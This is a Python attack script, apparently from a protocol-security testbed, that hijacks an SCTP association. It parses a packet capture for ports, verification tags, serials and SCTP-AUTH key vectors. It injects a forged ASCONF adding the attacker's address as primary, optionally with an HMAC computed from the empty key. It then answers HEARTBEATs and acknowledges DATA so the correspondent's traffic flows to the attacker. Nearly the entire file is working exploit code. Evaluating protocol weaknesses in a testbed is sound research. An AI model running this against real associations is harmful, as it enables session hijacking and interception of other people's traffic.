"""A forged binding update (§5, §8 of the draft): ASCONF ADD_IP + SET_PRIMARY of the attacker's
own address, injected into the MN's association with the correspondent.

    python -m testbed.attacks.asconf_injection --capture atk-ar1.pcap --address 192.0.2.254 \
        --port 5001 --auth computed --listen 3

The attacker read the association's INIT and INIT-ACK in its capture (``listen`` on a shared
medium): ports, verification tags, the MN's serial, and both ends' SCTP-AUTH key vectors. It then
sends, from its own address, an ASCONF whose lookup address is the MN's current one (RFC 5061
§4.1.1; Linux finds the association from it) with an AUTH chunk that is absent (``none``), holds
a made-up HMAC (``wrong``), or holds the HMAC computed from the vectors and the empty key 0
(``computed``: what anyone on-path can do unless both ends set an endpoint-pair key). A new
address starts unconfirmed, so for ``--listen`` seconds it answers the correspondent's HEARTBEATs
(RFC 9260 §5.4 path verification) and acknowledges the DATA that then comes to it. It prints one
JSON line: what it sent, whether an ASCONF-ACK came back, HEARTBEATs answered, DATA received.

Scapy builds and sends (CRC32c filled in); the raw IP socket that reads the answers also keeps
the attacker's kernel, which has no SCTP here, from answering with ICMP protocol-unreachable.
"""

from __future__ import annotations

import argparse
import json
import os
import select
import socket
import struct
import sys
import time
from collections.abc import Sequence
from pathlib import Path
from typing import Any

from testbed.decode import sctp_auth
from testbed.decode.link import ip_span, ntop
from testbed.decode.pcap import PcapReader
from testbed.decode.sctp import (
    ASCONF,
    ASCONF_ACK,
    DATA,
    HEARTBEAT,
    INIT,
    INIT_ACK,
    AsconfAckChunk,
    AsconfChunk,
    InitChunk,
    chunk_spans,
    decode_chunk,
)

HEARTBEAT_ACK = 5


def association(capture: Path, port: int, own: str = "") -> dict[str, Any]:
    """What an on-path observer knows of the newest association to ``port``: addresses, ports,
    tags, the MN's next ASCONF serial (its own ASCONFs, not ours from ``own``) and both key
    vectors."""
    found: dict[str, Any] = {}
    serial = None
    with PcapReader(capture) as reader:
        for _ts, lt, data, _iface in reader:
            try:
                _v, proto, src, dst, l4, end, _id, _cp = ip_span(lt, data)
            except Exception:  # noqa: BLE001,S112 - not IP: nothing to learn from it
                continue
            if proto != 132:
                continue
            hdr, spans, _fault = chunk_spans(data, l4, end)
            if hdr is None:
                continue
            sport, dport, _vtag = hdr
            for ctype, p, clen, _w in spans:
                if ctype not in (INIT, INIT_ACK, ASCONF, ASCONF_ACK, DATA):
                    continue
                ch = decode_chunk(data, p, clen)
                if isinstance(ch, InitChunk) and ctype == INIT and dport == port:
                    found = {"mn": ntop(src), "cn": ntop(dst), "mn_port": sport, "cn_port": dport,
                             "mn_tag": ch.initiate_tag, "mn_tsn": ch.initial_tsn,
                             "mn_vector": sctp_auth.key_vector(ch.params)}
                    serial = None
                elif isinstance(ch, InitChunk) and found and sport == port and dport == found["mn_port"]:
                    found.update(cn_tag=ch.initiate_tag, cn_vector=sctp_auth.key_vector(ch.params),
                                 cn_hmacs=_hmac_ids(ch))
                elif isinstance(ch, AsconfChunk) and found and sport == found["mn_port"] and ntop(src) != own:
                    serial = ch.serial
                elif ctype == DATA and found and sport == found["mn_port"] and dport == port:
                    found["mn"] = ntop(src)  # the MN's current address, as its DATA shows
    if "cn_tag" not in found:
        raise SystemExit(json.dumps({"error": f"{capture}: no INIT and INIT-ACK to port {port} captured "
                                              "(listen on the MN's access network before traffic starts)"}))
    found["serial"] = (serial + 1) & 0xFFFFFFFF if serial is not None else found["mn_tsn"]
    return found


def _hmac_ids(ch: InitChunk) -> list[int]:
    for p in ch.params:
        if p.type == sctp_auth.HMAC_ALGO:
            return [int.from_bytes(p.value[i:i + 2], "big") for i in range(0, len(p.value) - 1, 2)]
    return []


def build(a: dict[str, Any], attacker: str, auth: str) -> bytes:
    """The SCTP packet (common header and chunks) carrying the forged ASCONF."""
    from scapy.layers.sctp import (
        SCTP,
        SCTPChunkAddressConf,
        SCTPChunkParamAddIPAddr,
        SCTPChunkParamIPv4Addr,
        SCTPChunkParamSetPrimaryAddr,
    )

    asconf = bytes(SCTPChunkAddressConf(seq=a["serial"], params=[
        SCTPChunkParamIPv4Addr(addr=a["mn"]),
        SCTPChunkParamAddIPAddr(correlation_id=1, addr_type=5, addr=attacker),
        SCTPChunkParamSetPrimaryAddr(correlation_id=2, addr_type=5, addr=attacker),
    ]))
    hmac_id = next((h for h in a.get("cn_hmacs", []) if h in sctp_auth.DIGESTS), sctp_auth.HMAC_SHA1)
    if auth == "computed":
        if a["mn_vector"] is None or a["cn_vector"] is None:
            chunks = asconf  # the ends negotiated no AUTH: nothing to compute
        else:
            key = sctp_auth.association_key(a["mn_vector"], a["cn_vector"], b"")
            chunks = sctp_auth.sign(asconf, key, hmac_id=hmac_id) + asconf
    elif auth == "wrong":
        chunks = sctp_auth.sign(asconf, os.urandom(32), hmac_id=hmac_id) + asconf
    else:
        chunks = asconf
    return bytes(SCTP(sport=a["mn_port"], dport=a["cn_port"], tag=a["cn_tag"]) / chunks)


def _reply(a: dict[str, Any], chunk: bytes) -> bytes:
    from scapy.layers.sctp import SCTP

    return bytes(SCTP(sport=a["mn_port"], dport=a["cn_port"], tag=a["cn_tag"]) / chunk)


def _chunk(ctype: int, value: bytes, flags: int = 0) -> bytes:
    raw = struct.pack("!BBH", ctype, flags, 4 + len(value)) + value
    return raw + bytes(-len(raw) % 4)


def inject(a: dict[str, Any], attacker: str, auth: str, listen: float) -> dict[str, Any]:
    out: dict[str, Any] = {"auth": auth, "serial": a["serial"], "lookup": a["mn"], "cn": a["cn"],
                           "ports": [a["mn_port"], a["cn_port"]], "acked": False, "ack_errors": [],
                           "heartbeats_answered": 0, "data_received": 0, "first_data": None}
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, 132)
    raw.bind((attacker, 0))
    try:
        raw.sendto(build(a, attacker, auth), (a["cn"], 0))
        out["sent"] = time.time()
        highest = None
        deadline = time.monotonic() + listen
        while (left := deadline - time.monotonic()) > 0:
            if not select.select([raw], [], [], left)[0]:
                break
            pkt, (src, _) = raw.recvfrom(65535)
            if src != a["cn"]:
                continue
            ihl = (pkt[0] & 0x0F) * 4
            hdr, spans, _fault = chunk_spans(pkt, ihl, len(pkt))
            if hdr is None or hdr[2] != a["mn_tag"]:
                continue
            for ctype, p, clen, word in spans:
                if ctype == ASCONF_ACK:
                    ch = decode_chunk(pkt, p, clen)
                    if isinstance(ch, AsconfAckChunk) and ch.serial == a["serial"]:
                        out["acked"] = True
                        out["ack_errors"] += [c.name for prm in ch.params for c in prm.causes]
                elif ctype == HEARTBEAT:  # path verification of our address: confirm it
                    raw.sendto(_reply(a, _chunk(HEARTBEAT_ACK, pkt[p + 4:p + clen])), (a["cn"], 0))
                    out["heartbeats_answered"] += 1
                elif ctype == DATA:
                    out["data_received"] += 1
                    out["first_data"] = out["first_data"] or time.time()
                    highest = word if highest is None or (word - highest) & 0xFFFFFFFF < 1 << 31 else highest
            if highest is not None:  # acknowledge, so the correspondent keeps sending to us
                raw.sendto(_reply(a, _chunk(3, struct.pack("!IIHH", highest, 65536, 0, 0))), (a["cn"], 0))
    finally:
        raw.close()
    return out


def main(argv: Sequence[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m testbed.attacks.asconf_injection", description=__doc__)
    p.add_argument("--capture", required=True, help="the attacker's capture of the MN's access network")
    p.add_argument("--address", required=True, help="the attacker's own IPv4 address")
    p.add_argument("--port", type=int, default=5001, help="the correspondent's SCTP port")
    p.add_argument("--auth", choices=("none", "wrong", "computed"), default="computed")
    p.add_argument("--listen", type=float, default=3.0, help="seconds to answer HEARTBEATs and DATA")
    a = p.parse_args(argv)
    assoc = association(Path(a.capture), a.port, a.address)
    result = inject(assoc, a.address, a.auth, a.listen)
    result["negotiated_auth"] = assoc["mn_vector"] is not None and assoc["cn_vector"] is not None
    print(json.dumps(result))
    return 0


if __name__ == "__main__":
    sys.exit(main())
